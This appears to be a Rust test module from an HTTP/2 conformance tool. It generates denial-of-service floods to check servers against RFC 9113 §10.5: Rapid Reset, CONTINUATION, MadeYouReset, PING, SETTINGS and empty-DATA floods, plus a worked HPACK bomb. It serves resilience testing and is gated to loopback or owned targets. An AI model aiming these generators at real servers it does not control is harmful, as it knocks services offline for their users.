//! RFC 9113 §10.5: denial-of-service resilience, one case per flood class of the DoS
//! catalogue (`/work/shared/dos-catalogue.md`).
//!
//! Each case is a frame generator ([`Flood`]) plus [`Expectation::Resilience`]; the driver
//! bounds it (`--max-frames`, `--max-seconds`, the bomb's decoded size) and the verdict is
//! judged once, in `h2probe_harness::resilience`. The group is tagged `flood`: it runs only
//! when selected (`h2probe stress`, or `conform … flood`), and only against loopback unless
//! the user owns the target.

use crate::common::*;
use h2probe_codec::hpack::Representation as R;
use h2probe_harness::case::{Case, Ctx, Script, Setup};
use h2probe_harness::conn::Outgoing;
use h2probe_harness::expectation::Expectation;
use h2probe_harness::resilience::{count, Flood, Unit};
use std::sync::Arc;

const S: &str = "RFC 9113 §10.5";
const TAGS: &[&str] = &["flood"];
const LIMITS: &str = "An endpoint that doesn't monitor use of these features exposes itself to a risk of denial of service. Implementations SHOULD track the use of these features and set limits on their use. An endpoint MAY treat activity that is suspicious as a connection error (Section 5.4.1) of type ENHANCE_YOUR_CALM.";

/// Client stream ids stay below 2^31: the unit count is capped so `1 + 2i` fits.
const MAX_STREAM_UNITS: u64 = (1 << 30) - 1;

/// The stream of the `i`-th unit that opens one, after `first` (odd).
fn stream(first: u32, i: u64) -> u32 {
    first + 2 * i as u32
}

fn resilience(watch: Option<u32>) -> Expectation {
    Expectation::Resilience { watch: watch.map(StreamId) }
}

fn flood(unit_desc: &'static str, noun: &'static str, units: impl Fn(u64) -> Unit + Send + Sync + 'static) -> Flood {
    Flood { unit_desc, noun, units: Arc::new(units), max_units: None, fence: true, note: None }
}

pub(crate) const CASES: &[Case] = &[
    Case {
        id: "rfc9113/10.5/rapid-reset",
        description: "Rapid Reset (CVE-2023-44487): a GET on a new stream, then RST_STREAM(CANCEL) on it at once, repeated; at most one of our streams is open at a time",
        requirement: LIMITS,
        tags: TAGS,
        script: |ctx| {
            let block = ctx.get(1).encoded_block();
            let mut f = flood("HEADERS (GET) + RST_STREAM(CANCEL) on a new stream", "streams", move |i| {
                let s = stream(1, i);
                Unit {
                    frames: vec![frames::headers(s).block(block.clone()).end_stream().build().into(), frames::rst_stream(s, E::CANCEL).into()],
                    opens: None,
                }
            });
            f.max_units = Some(MAX_STREAM_UNITS);
            Ok(Script::steps(vec![Step::Flood(f)], resilience(None)))
        },
        ..should(S)
    },
    Case {
        id: "rfc9113/10.5/continuation-flood",
        description: "CONTINUATION flood (CVE-2024-27316 and kin): HEADERS without END_HEADERS, then small CONTINUATION frames (one 24-octet field each) without end",
        requirement: "A large field block (Section 4.3) can cause an implementation to commit a large amount of state. … Implementations SHOULD track the use of these features and set limits on their use. An endpoint MAY treat activity that is suspicious as a connection error (Section 5.4.1) of type ENHANCE_YOUR_CALM.",
        tags: TAGS,
        script: |ctx| {
            let mut field = Vec::new();
            R::literal("x-h2probe-flood", "aaaaaaaa").encode(&mut field);
            let mut f = flood("CONTINUATION (one field, no END_HEADERS) on stream 1", "CONTINUATIONs", move |_| Unit {
                frames: vec![frames::continuation(1, field.clone()).build().into()],
                opens: None,
            });
            // A PING inside a field block is itself a connection error (§6.10).
            f.fence = false;
            Ok(Script::steps(vec![send([ctx.get(1).no_end_headers()]), Step::Flood(f)], resilience(Some(1))))
        },
        ..should(S)
    },
    Case {
        id: "rfc9113/10.5/server-reset-flood",
        description: "Server-provoked reset flood (MadeYouReset CVE-2025-8671, CVE-2019-9514): a complete GET, then WINDOW_UPDATE with increment 0 on its stream so the server must reset it, repeated on new streams (responses held by a zero window)",
        requirement: LIMITS,
        tags: TAGS,
        // A zero stream window keeps each response from completing, so the stream is still
        // open (half-closed remote) when the WINDOW_UPDATE arrives and the server must
        // reset it (§6.9: increment 0 is a stream error of type PROTOCOL_ERROR).
        setup: HOLD_RESPONSE,
        script: |ctx| {
            let block = ctx.get(1).encoded_block();
            let mut f = flood("HEADERS (GET, END_STREAM) + WINDOW_UPDATE(increment 0) on a new stream", "streams", move |i| {
                let s = stream(1, i);
                Unit {
                    frames: vec![
                        frames::headers(s).block(block.clone()).end_stream().build().into(),
                        Outgoing::from(frames::raw(FrameType::WINDOW_UPDATE).stream(s).payload([0, 0, 0, 0])),
                    ],
                    opens: Some(StreamId(s)),
                }
            });
            f.max_units = Some(MAX_STREAM_UNITS);
            Ok(Script::steps(vec![Step::Flood(f)], resilience(None)))
        },
        ..should(S)
    },
    Case {
        id: "rfc9113/10.5/ping-flood",
        description: "PING flood (CVE-2019-9512): PING frames back to back, each asking for an ACK",
        requirement: LIMITS,
        tags: TAGS,
        script: |_| {
            let f = flood("PING", "PINGs", |i| {
                let mut payload = *b"h2pp\0\0\0\0";
                payload[4..].copy_from_slice(&(i as u32).to_be_bytes());
                Unit { frames: vec![frames::ping(payload).build().into()], opens: None }
            });
            Ok(Script::steps(vec![Step::Flood(f)], resilience(None)))
        },
        ..should(S)
    },
    Case {
        id: "rfc9113/10.5/settings-flood",
        description: "SETTINGS flood (CVE-2019-9515): empty SETTINGS frames back to back, each asking for an ACK",
        requirement: "The SETTINGS frame can be abused to cause a peer to expend additional processing time. … Implementations SHOULD track the use of these features and set limits on their use. An endpoint MAY treat activity that is suspicious as a connection error (Section 5.4.1) of type ENHANCE_YOUR_CALM.",
        tags: TAGS,
        script: |_| {
            let f = flood("SETTINGS (empty)", "SETTINGS frames", |_| Unit { frames: vec![frames::settings().build().into()], opens: None });
            Ok(Script::steps(vec![Step::Flood(f)], resilience(None)))
        },
        ..should(S)
    },
    Case {
        id: "rfc9113/10.5/empty-data-flood",
        description: "Empty-frame flood (CVE-2019-9518): a POST declaring a 100 000-octet body, then DATA frames of length 0 without END_STREAM on it (response held by a zero window)",
        requirement: "Large numbers of small or empty frames can be abused to cause a peer to expend time processing frame headers. … Implementations SHOULD track the use of these features and set limits on their use. An endpoint MAY treat activity that is suspicious as a connection error (Section 5.4.1) of type ENHANCE_YOUR_CALM.",
        tags: TAGS,
        // The zero window keeps a server that answers without reading the body from
        // completing and closing the stream under the flood.
        setup: HOLD_RESPONSE,
        script: |ctx| {
            let f = flood("DATA (length 0) on stream 1", "DATA frames", |_| Unit { frames: vec![frames::data(1, vec![]).build().into()], opens: None });
            // A declared length keeps servers that want one (lighttpd answers 411 without)
            // reading; it is never reached, and small enough for default body limits.
            Ok(Script::steps(vec![send([ctx.post(1).field("content-length", "100000")]), Step::Flood(f)], resilience(Some(1))))
        },
        ..should(S)
    },
    Case {
        id: "rfc9113/10.5/hpack-bomb",
        description: "HPACK bomb (CVE-2016-6581): a request inserts a table-sized header into the dynamic table, a second request references it thousands of times with 1-octet indexed fields (tiny on the wire, tens of MiB decoded)",
        requirement: "A large field block (Section 4.3) can cause an implementation to commit a large amount of state. … A server that receives a larger field block than it is willing to handle can send an HTTP 431 (Request Header Fields Too Large) status code. … Implementations SHOULD track the use of these features and set limits on their use.",
        tags: &["flood", "hpack"],
        setup: Setup::STANDARD,
        script: hpack_bomb,
        ..should(S)
    },
];

/// Name of the bomb's table entry.
const BOMB_NAME: &str = "x-h2probe-bomb";

fn hpack_bomb(ctx: &Ctx) -> Result<Script, String> {
    // The entry fills the server's decoder table (RFC 7541 §4.1: name + value + 32), so
    // each 1-octet reference to it decodes to that many octets of header list.
    let table = ctx.server.get(SettingId::HEADER_TABLE_SIZE).unwrap_or(4096).min(4096) as usize;
    let overhead = 32 + BOMB_NAME.len();
    if table < overhead + 64 {
        return Err(format!("the server's HPACK table is {table} octets, too small for a bomb"));
    }
    let entry = table;
    let value = vec![b'a'; entry - overhead];
    let refs = (ctx.limits.max_decoded / entry as u64).clamp(1, 1 << 24) as usize;
    let mut insert = ctx.get(1).encoded_block();
    R::literal(BOMB_NAME, value).incremental().encode(&mut insert);
    let mut bomb = ctx.get(3).encoded_block();
    // Index 62 is the newest dynamic-table entry; `1xxxxxxx` with 62 is 0xbe, one octet.
    bomb.resize(bomb.len() + refs, 0x80 | 62);
    let wire = bomb.len();
    let bomb_frames: Vec<Outgoing> =
        frames::headers(3).block(bomb).end_stream().build_split(ctx.server.max_frame_size() as usize).into_iter().map(Outgoing::from).collect();
    let decoded = refs as u64 * entry as u64;
    let mut f = Flood {
        unit_desc: "HEADERS + CONTINUATION on stream 3: the bomb",
        noun: "bomb requests",
        units: Arc::new(move |_| Unit { frames: bomb_frames.clone(), opens: None }),
        max_units: Some(1),
        fence: true,
        note: None,
    };
    f.note = Some(format!(
        "a {} KiB field block that decodes to {} MiB: {} references to one {entry}-octet table entry",
        count(wire.div_ceil(1024) as u64),
        count(decoded >> 20),
        count(refs as u64)
    ));
    Ok(Script::steps(vec![send([ctx.get(1).block(insert)]), Step::Flood(f)], resilience(Some(3))))
}
